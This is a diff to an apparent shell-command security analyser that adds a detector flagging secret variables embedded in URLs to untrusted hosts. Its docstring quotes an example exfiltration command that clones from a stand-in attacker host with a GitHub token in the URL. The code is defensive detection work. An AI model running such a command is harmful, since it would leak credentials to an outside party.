@@ -22,6 +22,7 @@ from phlegyas.analysis.tier1.sed import sed_runs
 from phlegyas.analysis.tier1.uploads import _CURL_LONG, _CURL_VALUES, _DATA_FLAGS, MAILERS
 from phlegyas.analysis.tier1.uploads import uploads as _uploads
 from phlegyas.analysis.tier1.words import inner_commands, path_of
+from phlegyas.analysis.urls import foreign_code_host, host_of
 from phlegyas.core.analysis import AnalysisEnv
 from phlegyas.core.model import Verdict
 
@@ -410,6 +411,23 @@ def _file_secret(value: str, env: AnalysisEnv) -> str | None:
     return f"{p} ({why})" if why else None
 
 
+
+
+_URL_WORD: Final = re.compile(r"(?:git\+)?(?:https?|ssh|git)://[^\s'\"]+")
+
+
+def detect_url_secret(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
+    """``git clone "https://x:$GITHUB_TOKEN@git.evil.example/r"``: a secret variable in a URL for a host that is no
+    forge, no registry and no private network goes to that host, whatever the program does with it."""
+    for w in inv.args:
+        if not w.dynamic or "://" not in w.text:
+            continue
+        for m in _URL_WORD.finditer(w.text):
+            names = secret_variables(m.group(0))
+            _, host = host_of(m.group(0).removeprefix("git+"))
+            if names and host and "$" not in host and foreign_code_host(host):
+                add(out, "net.exfiltration", inv, f"{inv.program} sends ${names[0]} to {host} in a URL")
+                return
 
 
 def detect_covert_channel(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
